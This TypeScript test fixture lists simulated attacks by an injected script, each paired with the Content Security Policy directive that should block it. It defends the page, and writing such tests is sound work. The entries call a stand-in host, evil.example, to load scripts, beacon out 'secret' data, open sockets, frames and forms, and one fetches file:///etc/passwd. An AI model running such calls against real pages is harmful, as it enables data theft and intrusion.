/** What a script that got into the page would try, and which part of the policy stops it (W6). */
export interface Attack {
  readonly name: string
  readonly directive: string
  readonly run: () => void
}

// Each runs in the page, as a script that got in would.
export const attacks: readonly Attack[] = [
  {
    name: 'an inline script',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script')
      script.textContent = 'window.hacked = 1'
      document.head.append(script)
    }
  },
  {
    name: 'an inline handler',
    directive: 'script-src-attr',
    run: () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.hacked = 1')
      document.body.append(button)
      button.click()
      button.remove()
    }
  },
  {
    name: 'a script of another host',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.head.append(script)
    }
  },
  {
    name: 'eval',
    directive: 'script-src',
    // What a debugger evaluates may do so; a task of the page's own may not.
    run: () =>
      void setTimeout(() => {
        const name = 'eval'
        ;(window as unknown as Record<string, (text: string) => void>)[name]?.('window.hacked = 1')
      })
  },
  {
    name: 'a style of another host',
    directive: 'style-src-elem',
    run: () => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = 'https://evil.example/x.css'
      document.head.append(link)
    }
  },
  {
    name: 'an inline style sheet',
    directive: 'style-src-elem',
    run: () => {
      const style = document.createElement('style')
      style.textContent = 'body { background: url(https://evil.example/x) }'
      document.head.append(style)
    }
  },
  {
    name: 'a picture that carries data away',
    directive: 'img-src',
    run: () => {
      new Image().src = 'https://evil.example/?secret'
    }
  },
  {
    name: 'a fetch',
    directive: 'connect-src',
    run: () => void fetch('https://evil.example/').catch(() => undefined)
  },
  {
    name: 'a fetch of a local file',
    directive: 'connect-src',
    run: () => void fetch('file:///etc/passwd').catch(() => undefined)
  },
  {
    name: 'a beacon',
    directive: 'connect-src',
    run: () => void navigator.sendBeacon('https://evil.example/', 'secret')
  },
  {
    name: 'a web socket',
    directive: 'connect-src',
    run: () => {
      try {
        new WebSocket('wss://evil.example/')
      } catch {
        // That is what the policy is for.
      }
    }
  },
  {
    name: 'a worker',
    directive: 'worker-src',
    run: () => {
      try {
        new Worker(URL.createObjectURL(new Blob(['1'])))
      } catch {
        // That is what the policy is for.
      }
    }
  },
  {
    name: 'a frame',
    directive: 'frame-src',
    run: () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    }
  },
  {
    name: 'an object',
    directive: 'object-src',
    run: () => {
      const object = document.createElement('object')
      object.data = 'https://evil.example/x.swf'
      document.body.append(object)
    }
  },
  {
    name: 'another base for addresses',
    directive: 'base-uri',
    run: () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    }
  },
  {
    name: 'a form',
    directive: 'form-action',
    run: () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    }
  }
]
